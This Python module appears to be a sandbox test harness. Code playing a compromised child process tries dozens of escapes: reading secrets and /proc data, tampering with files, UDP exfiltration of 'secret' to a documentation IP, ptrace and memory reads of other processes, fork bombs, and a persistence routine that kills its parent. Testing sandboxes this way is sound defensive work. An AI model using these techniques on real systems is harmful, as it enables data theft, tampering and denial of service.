"""What code that has taken over a child tries: each attack returns whether it got what it wanted. No Django here.

It comes in by both doors: as a reader, and as the decoder of a file, for which `captive` puts a package in the place of
pillow_heif.
"""

from __future__ import annotations

import ctypes
import json
import math
import os
import platform
import pwd
import resource
import signal
import socket
import stat
import struct
import sys
import time
from collections.abc import Callable
from contextlib import suppress
from typing import Any

from PIL import Image

from mediasearch.features import base
from mediasearch.features.base import Reading, TextReader

DOOR = b"\0\0\0\0ftypATTACK"
"""How a file begins whose decoder is ours: Pillow shows a decoder 16 bytes, and loads that of HEIC for `ftyp`."""
MANY = 400
"""Processes, which are more than anybody needs."""
Target = dict[str, Any]
"""What there is to attack: `captive.Scene`, as JSON."""
ATTACKS: dict[str, Callable[[Target], object]] = {}
_NUMBERS = {
    "ptrace": (101, 117), "process_vm_readv": (310, 270), "process_vm_writev": (311, 271), "pidfd_open": (434, 434),
    "pidfd_send_signal": (424, 424), "tgkill": (234, 131), "rt_sigqueueinfo": (129, 138), "unshare": (272, 97),
    "mount": (165, 40), "bpf": (321, 280), "io_uring_setup": (425, 425), "userfaultfd": (323, 282),
    "keyctl": (250, 219), "add_key": (248, 217), "shmget": (29, 194), "inotify_init1": (294, 26),
    "perf_event_open": (298, 241), "memfd_create": (319, 279), "execveat": (322, 281), "clone3": (435, 435),
    "name_to_handle_at": (303, 264), "process_madvise": (440, 440), "chroot": (161, 51), "mq_open": (240, 180),
    "inotify_add_watch": (254, 27), "open_tree": (428, 428),
}  # fmt: skip
"""System calls, on x86-64 and on ARM: a table apart from that of the filter which is tried."""
_libc = ctypes.CDLL(None, use_errno=True)


class Captive(TextReader):
    """A reader that is somebody else's; a program of its own is what it may start."""

    def __init__(self, attack: str, target: Target, engine: str) -> None:
        self.attack, self.target, self.engine = attack, target, engine

    def access(self) -> Any:
        return base.Access(programs=[self.engine])

    def read(self, image: Image.Image) -> Reading:
        word = base.Word(outcome(self.attack, self.target), (0.0, 0.0, 1.0, 1.0), 1.0, 0)
        return Reading((word,))


def register_heif_opener(**_: Any) -> None:
    """Stand in for pillow_heif, with a decoder that obeys the file."""
    Image.register_open("HEIF", _decoded, lambda prefix: prefix.startswith(DOOR))


def _decoded(stream: Any, name: str) -> Image.Image:
    order = json.loads(stream.read()[len(DOOR) :])
    told = outcome(order["attack"], order["target"]).encode()
    side = math.ceil(math.sqrt(len(told) / 3))
    return Image.frombytes("RGB", (side, side), told.ljust(3 * side * side))


def outcome(name: str, target: Target) -> str:
    """Return "done", or why not."""
    try:
        return "done" if ATTACKS[name](target) else "nothing"
    except (OSError, MemoryError, RuntimeError, ValueError) as error:
        return f"refused: {type(error).__name__}: {error}"


def _attack(attack: Callable[[Target], object]) -> Callable[[Target], object]:
    ATTACKS[attack.__name__.replace("_", " ")] = attack
    return attack


def _call(name: str, *arguments: Any) -> int:
    number = _NUMBERS[name][platform.machine() == "aarch64"]
    return _numbered(number, *arguments)


def _numbered(number: int, *arguments: Any) -> int:
    _libc.syscall.restype = ctypes.c_long
    wide = [ctypes.c_long(one) if isinstance(one, int) else one for one in arguments]
    result: int = _libc.syscall(ctypes.c_long(number), *wide)
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def _read(path: str) -> bytes:
    descriptor = os.open(path, os.O_RDONLY)
    try:
        return os.read(descriptor, 4_096)
    finally:
        os.close(descriptor)


def _of_processes(name: str, look: Callable[[str], object]) -> None:
    """Try the same on the parent, which may be the warden, and on the site's process."""

    def of_parent(target: Target) -> object:
        return look(f"/proc/{os.getppid()}/{name}")

    def of_site(target: Target) -> object:
        return look(f"/proc/{target['site']}/{name}")

    ATTACKS[f"parent's {name}"], ATTACKS[f"site's {name}"] = of_parent, of_site


def _opened(path: str) -> bool:
    os.close(os.open(path, os.O_RDWR))
    return True


for _name in ("environ", "cmdline", "maps", "status"):
    _of_processes(_name, _read)
_of_processes("mem", _opened)
_of_processes("fd", os.listdir)
_of_processes("root/etc/passwd", _read)
for _name in ("settings", "secrets", "picture", "private key"):
    ATTACKS[f"read {_name}"] = lambda target, name=_name: _read(target["files"][name])  # type: ignore[misc]


@_attack
def read_passwd(target: Target) -> object:
    return _read("/etc/passwd")


@_attack
def list_home(target: Target) -> object:
    return os.listdir(pwd.getpwuid(os.getuid()).pw_dir)


@_attack
def list_the_site(target: Target) -> object:
    return os.listdir(os.path.dirname(target["files"]["settings"]))


@_attack
def list_root(target: Target) -> object:
    return os.listdir("/")


@_attack
def read_through_a_link(target: Target) -> object:
    link = os.path.join(os.environ["TMPDIR"], "link")
    with suppress(FileExistsError):
        os.symlink(target["files"]["secrets"], link)
    return _read(link)


@_attack
def read_through_a_hard_link(target: Target) -> object:
    link = os.path.join(os.environ["TMPDIR"], "hard")
    os.link(target["files"]["secrets"], link)
    return _read(link)


@_attack
def read_by_handle(target: Target) -> object:
    handle, mount = ctypes.create_string_buffer(struct.pack("=Ii", 128, 0) + bytes(128)), ctypes.c_int()
    return _call("name_to_handle_at", -100, target["files"]["secrets"].encode(), handle, ctypes.byref(mount), 0) == 0


@_attack
def change_a_picture(target: Target) -> object:
    return _opened(target["files"]["picture"])


@_attack
def add_to_media(target: Target) -> object:
    return _made(os.path.join(os.path.dirname(target["files"]["picture"]), "new.html"))


@_attack
def delete_a_picture(target: Target) -> object:
    os.unlink(target["files"]["victim"])
    return True


@_attack
def rename_a_picture(target: Target) -> object:
    os.rename(target["files"]["picture"], target["files"]["picture"] + ".gone")
    os.rename(target["files"]["picture"] + ".gone", target["files"]["picture"])
    return True


@_attack
def shorten_a_picture(target: Target) -> object:
    os.truncate(target["files"]["picture"], 5)
    return True


@_attack
def shorten_a_library(target: Target) -> object:
    """Open what may be read, and have it emptied on the way; a file of its size is not there to be lost."""
    os.close(os.open(target["files"]["library"], os.O_RDONLY | os.O_TRUNC))
    return True


@_attack
def open_up_secrets(target: Target) -> object:
    os.chmod(target["files"]["secrets"], 0o666)
    return True


@_attack
def touch_a_picture(target: Target) -> object:
    os.utime(target["files"]["picture"], (0, 0))
    return True


@_attack
def mark_a_picture(target: Target) -> object:
    os.setxattr(target["files"]["picture"], "user.mark", b"x")
    return True


def _made(path: str) -> bool:
    os.close(os.open(path, os.O_WRONLY | os.O_CREAT, 0o600))
    with suppress(OSError):
        os.unlink(path)
    return True


@_attack
def write_to_tmp(target: Target) -> object:
    return _made(f"{os.environ['TMPDIR']}-more")


@_attack
def write_to_shared_memory(target: Target) -> object:
    return _made("/dev/shm/captive")


@_attack
def write_to_home(target: Target) -> object:
    return _made(os.path.join(pwd.getpwuid(os.getuid()).pw_dir, ".captive"))


@_attack
def write_to_libraries(target: Target) -> object:
    return _made(os.path.join(os.path.dirname(os.path.dirname(Image.__file__)), "captive.pth"))


@_attack
def write_to_own_package(target: Target) -> object:
    return _made(os.path.join(os.path.dirname(base.__file__), "captive.py"))


@_attack
def make_a_device(target: Target) -> object:
    path = os.path.join(os.environ["TMPDIR"], "device")
    os.mknod(path, stat.S_IFCHR | 0o600, os.makedev(1, 1))
    return True


def _reaches(name: str, family: int, kind: int, address: Callable[[Target], Any]) -> None:
    def reach(target: Target) -> object:
        if address(target) is None:
            return False
        with socket.socket(family, kind) as one:
            one.settimeout(2)
            one.connect(address(target))
            return one.send(b"hello") if kind == socket.SOCK_DGRAM else True

    ATTACKS[f"reach {name}"] = reach


_reaches("the database by its socket", socket.AF_UNIX, socket.SOCK_STREAM, lambda target: target["database"])
_reaches("the broker", socket.AF_INET, socket.SOCK_STREAM, lambda target: tuple(target["broker"]))
_reaches("loopback", socket.AF_INET, socket.SOCK_STREAM, lambda target: ("127.0.0.1", target["port"]))
_reaches("loopback by IPv6", socket.AF_INET6, socket.SOCK_STREAM, lambda t: t["port6"] and ("::1", t["port6"]))
_reaches("loopback by UDP", socket.AF_INET, socket.SOCK_DGRAM, lambda target: ("127.0.0.1", target["port"]))
_reaches("an abstract socket", socket.AF_UNIX, socket.SOCK_STREAM, lambda target: "\0" + target["abstract"])
_reaches("the system's log", socket.AF_UNIX, socket.SOCK_DGRAM, lambda target: target["datagrams"])


@_attack
def reach_outside(target: Target) -> object:
    with socket.socket() as one:
        one.setblocking(False)
        return one.connect_ex(("192.0.2.1", 443)) in (0, 115)


@_attack
def reach_outside_by_ipv6(target: Target) -> object:
    with socket.socket(socket.AF_INET6) as one:
        one.setblocking(False)
        return one.connect_ex(("2001:db8::1", 443)) in (0, 115, 101)


@_attack
def reach_outside_by_udp(target: Target) -> object:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        return one.sendto(b"secret", ("192.0.2.1", 53)) == 6


@_attack
def netlink(target: Target) -> object:
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as one:
        one.bind((0, 0))
        return True


@_attack
def raw_packets(target: Target) -> object:
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP):
        return True


@_attack
def listen(target: Target) -> object:
    with socket.socket() as one:
        one.bind(("127.0.0.1", 0))
        one.listen()
        return True


@_attack
def turn_a_pair_around(target: Target) -> object:
    """Connect one end of a pair of datagram sockets to somebody else."""
    one, other = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    with one, other:
        one.connect(target["datagrams"])
        return one.send(b"hello") == 5


def _starts(name: str, command: Callable[[Target], list[str]]) -> None:
    def start(target: Target) -> object:
        words = command(target)
        pid = os.posix_spawn(words[0], words, {})
        return os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) == 0

    ATTACKS[f"start {name}"] = start


_starts("a shell", lambda target: ["/bin/sh", "-c", "true"])
_starts("Python", lambda target: [sys.executable, "-c", ""])
_starts("a program by the loader", lambda target: [target["loader"], "/bin/true"])


@_attack
def start_a_script_of_its_own(target: Target) -> object:
    path = os.path.join(os.environ["TMPDIR"], "script")
    with open(path, "w", opener=lambda name, flags: os.open(name, flags, 0o700)) as file:
        file.write("#!/bin/sh\ntrue\n")
    pid = os.posix_spawn(path, [path], {})
    return os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) == 0


@_attack
def become_another_program(target: Target) -> object:
    """In place of itself, which is how the opener would do it: it has no need of a process."""
    reader, writer = os.pipe()
    pid = os.fork()
    if not pid:
        try:
            os.execv("/bin/true", ["true"])
        finally:
            os.write(writer, b"refused")
            os._exit(1)
    os.close(writer)
    return os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) == 0 and not os.read(reader, 10)


@_attack
def start_a_program_in_memory(target: Target) -> object:
    descriptor = _call("memfd_create", b"x", 0)
    with open("/bin/true", "rb") as program:
        os.write(descriptor, program.read())
    pid = os.fork()
    if not pid:
        with suppress(OSError):
            words = (ctypes.c_char_p * 2)(b"true", None)
            _call("execveat", descriptor, b"", words, (ctypes.c_char_p * 1)(None), 0x1000)
        os._exit(1)
    return os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) == 0


@_attack
def fork_without_end(target: Target) -> object:
    started: list[int] = []
    try:
        for _ in range(MANY):
            pid = os.fork()
            if not pid:
                time.sleep(600)
                os._exit(0)
            started.append(pid)
        time.sleep(1)
        return True
    finally:
        for pid in started:
            os.kill(pid, signal.SIGKILL)
            os.waitpid(pid, 0)


@_attack
def thread_without_end(target: Target) -> object:
    import threading

    threading.stack_size(64 * 1024)
    for _ in range(MANY):
        threading.Thread(target=time.sleep, args=[5], daemon=True).start()
    time.sleep(1)
    return True


@_attack
def fork_into_namespaces(target: Target) -> object:
    """By a call whose flags no filter can see."""
    arguments = (ctypes.c_uint64 * 8)(0x10000000, 0, 0, 0, signal.SIGCHLD, 0, 0, 0)
    pid = _call("clone3", arguments, 64)
    if not pid:
        os._exit(0)
    return os.waitpid(pid, 0)[0] == pid


def _signals(name: str, send: Callable[[int], object]) -> None:
    def to_parent(target: Target) -> object:
        send(os.getppid())
        return True

    def to_site(target: Target) -> object:
        send(target["site"])
        return True

    ATTACKS[f"{name} the parent"], ATTACKS[f"{name} the site"] = to_parent, to_site


def _by_descriptor(pid: int) -> object:
    return _call("pidfd_send_signal", _call("pidfd_open", pid, 0), 0, 0, 0)


def _queued(pid: int) -> object:
    information = ctypes.create_string_buffer(struct.pack("=iiii", 0, 0, -1, 0) + bytes(112))
    return _call("rt_sigqueueinfo", pid, signal.SIGCONT, information)


def _read_memory(pid: int) -> object:
    here = ctypes.create_string_buffer(8)
    local = (ctypes.c_uint64 * 2)(ctypes.addressof(here), 8)
    remote = (ctypes.c_uint64 * 2)(ctypes.addressof(here), 8)
    try:
        return _call("process_vm_readv", pid, local, 1, remote, 1, 0)
    except OSError as error:
        if error.errno == 14:  # The address was not there, but looking was allowed.
            return True
        raise


def _traced(pid: int) -> object:
    return _call("ptrace", 0x4206, pid, 0, 0)  # SEIZE, which does not stop it.


for _name, _send in {
    "signal": lambda pid: os.kill(pid, 0),
    "signal a thread of": lambda pid: _call("tgkill", pid, pid, 0),
    "signal by descriptor": _by_descriptor,
    "queue a signal for": _queued,
    "read the memory of": _read_memory,
    "trace": _traced,
    "bound": lambda pid: resource.prlimit(pid, resource.RLIMIT_CORE),
    "slow down": lambda pid: os.setpriority(os.PRIO_PROCESS, pid, os.getpriority(os.PRIO_PROCESS, pid)),
    "move": lambda pid: os.sched_setaffinity(pid, os.sched_getaffinity(pid)),
}.items():
    _signals(_name, _send)


@_attack
def signal_everybody(target: Target) -> object:
    os.kill(-1, 0)
    return True


@_attack
def signal_by_a_pipe(target: Target) -> object:
    import fcntl

    ours, _ = os.pipe()
    fcntl.fcntl(ours, fcntl.F_SETOWN, target["site"])
    return True


@_attack
def leave_its_session(target: Target) -> object:
    pid = os.fork()
    if not pid:
        with suppress(OSError):
            os.setsid()
            os._exit(0)
        os._exit(1)
    return os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) == 0


@_attack
def raise_its_limits(target: Target) -> object:
    resource.setrlimit(resource.RLIMIT_FSIZE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    return True


@_attack
def become_somebody(target: Target) -> object:
    os.setresuid(65534, 65534, 65534)
    return True


for _name, _make in {
    "new user namespace": lambda target: _call("unshare", 0x10000000) == 0,
    "new network": lambda target: _call("unshare", 0x40000000) == 0,
    "mount": lambda t: _call("mount", b"x", os.environ["TMPDIR"].encode(), b"tmpfs", 0, 0) == 0,
    "open tree": lambda target: _call("open_tree", -100, b"/", 1) >= 0,
    "chroot": lambda target: _call("chroot", b"/") == 0,
    "bpf": lambda target: _call("bpf", 0, (ctypes.c_uint32 * 18)(2, 4, 4, 1), 72) >= 0,
    "io_uring": lambda target: _call("io_uring_setup", 1, ctypes.create_string_buffer(120)) >= 0,
    "userfaultfd": lambda target: _call("userfaultfd", 1) >= 0,
    "keyring": lambda target: _call("keyctl", 0, -3, 1) != 0,
    "key": lambda target: _call("add_key", b"user", b"captive", b"x", 1, -3) != 0,
    "shared memory of System V": lambda target: _call("shmget", 0, 4_096, 0o600) >= 0,
    "message queue": lambda target: _call("mq_open", b"captive", 0o102, 0o600, 0) >= 0,
    "watch the site's files": lambda target: _watched(target),
    "perf": lambda target: _call("perf_event_open", ctypes.create_string_buffer(128), 0, -1, -1, 0) >= 0,
    "x32": lambda target: _numbered(0x40000000 | 39) > 0,
}.items():
    ATTACKS[_name] = _make


def _watched(target: Target) -> bool:
    watch = _call("inotify_init1", 0)
    return _call("inotify_add_watch", watch, os.path.dirname(target["files"]["picture"]).encode(), 0x100) >= 0


@_attack
def stay(target: Target) -> object:
    """Get rid of everything that would end it with its parent, and never answer."""
    with suppress(OSError):
        os.setsid()
    _libc.prctl(1, 0, 0, 0, 0)
    parent = os.getppid()
    os.getppid = lambda: parent  # For a thread of its own that watches.
    for number in set(signal.valid_signals()) - {signal.SIGKILL, signal.SIGSTOP}:
        with suppress(OSError):
            signal.signal(number, signal.SIG_IGN)
    with suppress(OSError):
        if parent != target["owner"]:
            os.kill(parent, signal.SIGKILL)
    with open(os.path.join(os.environ["TMPDIR"], "stays"), "w") as file:
        file.write(str(os.getpid()))
    while True:
        time.sleep(3_600)
